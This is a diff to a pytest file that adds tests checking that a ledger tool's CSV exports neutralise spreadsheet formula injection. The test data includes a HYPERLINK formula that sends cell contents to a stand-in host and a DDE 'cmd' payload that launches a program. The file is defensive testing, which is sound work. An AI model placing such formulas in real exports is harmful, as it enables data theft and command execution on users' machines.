@@ -6,11 +6,12 @@ issue in a small ledger and asserts the exact output.
 
 from __future__ import annotations
 
+import json
 from pathlib import Path
 
 import pytest
 
-from conftest import TASKS
+from conftest import DEPARTMENTS, TASKS
 from zctasks import limits
 
 # ---------------------------------------------------------------- numbers and sizes
@@ -80,3 +81,48 @@ def test_bounded_read_names_the_file_and_stops_at_the_limit(tmp_path, monkeypatc
     with pytest.raises(limits.InputTooLarge) as caught:
         limits.read_bounded(Path("/dev/zero"), "/dev/zero")
     assert caught.value.message == "/dev/zero：文件过大（超过上限 10 字节）"
+
+
+# ---------------------------------------------------------------- spreadsheet formulas
+
+FORMULA = '=HYPERLINK("http://x/?"&A1,"佐证")'
+
+
+def _add(zc, root, note, task="1", by="区科技局", day="2023-07-10"):
+    result = zc("progress", "add", task, "--by", by, "--date", day, "--note", note, root=root)
+    assert result.exit_code == 0, result.stderr
+
+
+def test_the_progress_log_csv_never_starts_a_formula(zc, make_ledger):
+    root = make_ledger()
+    _add(zc, root, FORMULA)
+    _add(zc, root, "+cmd|' /C calc'!A0", day="2023-07-11")
+    _add(zc, root, "-1+2", day="2023-07-12")
+    result = zc("progress", "log", "-f", "csv", root=root)
+    assert result.stdout == (
+        "日期,任务,标题,单位,状态,指标,进展\n"
+        '2023-07-10,1,建设创新平台,区科技局,推进中,,"\'=HYPERLINK(""http://x/?""&A1,""佐证"")"\n'
+        "2023-07-11,1,建设创新平台,区科技局,推进中,,'+cmd|' /C calc'!A0\n"
+        "2023-07-12,1,建设创新平台,区科技局,推进中,,'-1+2\n"
+    )
+    notes = [e["note"] for e in json.loads(zc("progress", "log", "-f", "json", root=root).stdout)]
+    assert notes == [FORMULA, "+cmd|' /C calc'!A0", "-1+2"]  # JSON stays exact
+
+
+def test_list_chapters_and_depts_csv_never_start_a_formula(zc, make_ledger):
+    tasks = TASKS.replace("title: 建设创新平台", "title: '@SUM(A1:A9)'").replace(
+        "title: 科技创新}", "title: '=1+2'}"
+    )
+    departments = DEPARTMENTS.replace(
+        "区水利局: {kind: 政府工作部门}", "区水利局: {kind: 政府工作部门, full_name: '-2+3'}"
+    )
+    root = make_ledger(tasks=tasks, departments=departments)
+    assert zc("list", "-c", "1", "-f", "csv", root=root).stdout == (
+        "序号,章,任务,牵头/负责,配合,指标\n1,1,'@SUM(A1:A9),区科技局,区发改局等,2\n"
+    )
+    assert zc("chapters", "-f", "csv", root=root).stdout == (
+        "章,标题,任务数,任务序号,指标数\n一,'=1+2,1,1,2\n二,绿色发展,2,2、3,1\n"
+    )
+    assert "区水利局,'-2+3,政府工作部门,0,0,1,1\n" in zc("depts", "-f", "csv", root=root).stdout
+    task = json.loads(zc("show", "1", "-f", "json", root=root).stdout)
+    assert (task["title"], task["chapter_title"]) == ("@SUM(A1:A9)", "=1+2")
